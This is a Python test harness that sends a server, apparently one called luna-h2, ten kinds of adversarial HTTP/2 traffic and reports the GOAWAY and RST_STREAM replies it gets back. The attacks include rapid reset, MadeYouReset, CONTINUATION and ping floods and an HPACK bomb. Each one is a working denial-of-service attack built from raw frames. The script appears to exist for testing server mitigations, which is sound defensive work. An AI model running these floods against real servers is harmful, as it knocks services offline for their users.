"""Adversarial HTTP/2 clients against luna-h2 (hyperframe + hpack, raw sockets).

Usage: attacks.py HOST PORT ATTACK. Runs one attack on one connection, reads what the
server sends until it closes the connection (bounded), and prints
'ATTACK <name> goaway=<code or none> rst=<n RST_STREAMs> closed=<0|1> refused=<n>
debug=<the GOAWAY's debug data>'. `zero_window` and `idle` wait (up to 20 s) for the
server's send / idle timeout to end the connection.
"""
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
host, port, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3]
enc = Encoder()


def req(path="/"):
    return enc.encode(
        [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", host)]
    )


def headers(sid, block, end_stream=True, end_headers=True):
    f = HeadersFrame(sid)
    f.data = block
    if end_stream:
        f.flags.add("END_STREAM")
    if end_headers:
        f.flags.add("END_HEADERS")
    return f.serialize()


s = socket.create_connection((host, port), timeout=10)
settings = SettingsFrame(0)
if attack == "zero_window":
    settings.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
s.sendall(PREFACE + settings.serialize())
out = []

if attack == "rapid_reset":
    for i in range(2000):
        sid = 1 + 2 * i
        out.append(headers(sid, req()))
        out.append(RstStreamFrame(sid, error_code=8).serialize())
elif attack == "made_you_reset":
    # Each stream is reset by the server because of what the client sends (a
    # WINDOW_UPDATE of 0 on it), not by the client.
    for i in range(2000):
        sid = 1 + 2 * i
        out.append(headers(sid, req()))
        out.append(WindowUpdateFrame(sid, window_increment=0).serialize())
elif attack == "continuation_flood":
    out.append(headers(1, req()[:2], end_headers=False))
    for _ in range(10000):
        c = ContinuationFrame(1)
        c.data = b"\x82"
        out.append(c.serialize())
elif attack == "hpack_bomb":
    big = "a" * 4000
    block = enc.encode([("x-bomb", big)])  # literal with incremental indexing
    block += bytes([0xBE]) * 4000  # index 62: the new entry, 4,000 times
    out.append(headers(1, req() + block))
elif attack == "ping_flood":
    for i in range(5000):
        out.append(PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())
elif attack == "settings_flood":
    for _ in range(5000):
        out.append(SettingsFrame(0).serialize())
elif attack == "empty_frames":
    out.append(headers(1, req(), end_stream=False))
    for _ in range(5000):
        out.append(DataFrame(1, data=b"").serialize())
elif attack == "window_overflow":
    out.append(WindowUpdateFrame(0, window_increment=(1 << 31) - 1).serialize())
elif attack == "zero_window":
    # Initial window 0 and never a WINDOW_UPDATE: replies can never be sent. 150
    # streams: the first 100 hold their slots, the rest are refused; then quiet, until
    # the server's send timeout says GOAWAY and closes.
    for i in range(150):
        out.append(headers(1 + 2 * i, req("/big")))
elif attack == "idle":
    pass  # the preface and SETTINGS, then nothing: the idle timeout ends it
else:
    print("unknown attack", attack)
    sys.exit(2)

try:
    s.sendall(b"".join(out))
except OSError:
    pass  # the server may close while we still send

buf = bytearray()
closed = 0
deadline = time.time() + 20
s.settimeout(1)
while time.time() < deadline:
    try:
        d = s.recv(1 << 16)
    except socket.timeout:
        continue
    except OSError:
        closed = 1
        break
    if not d:
        closed = 1
        break
    buf += d

goaway, rst, refused, at, debug = "none", 0, 0, 0, ""

while at + 9 <= len(buf):
    f, length = Frame.parse_frame_header(memoryview(buf[at : at + 9]))
    if at + 9 + length > len(buf):
        break
    f.parse_body(memoryview(buf[at + 9 : at + 9 + length]))
    if isinstance(f, GoAwayFrame):
        goaway = f.error_code
        debug = f.additional_data.decode("ascii", "replace")
    elif isinstance(f, RstStreamFrame):
        rst += 1
        refused += f.error_code == 7
    at += 9 + length
s.close()
print(f"ATTACK {attack} goaway={goaway} rst={rst} closed={closed} refused={refused} debug={debug}")
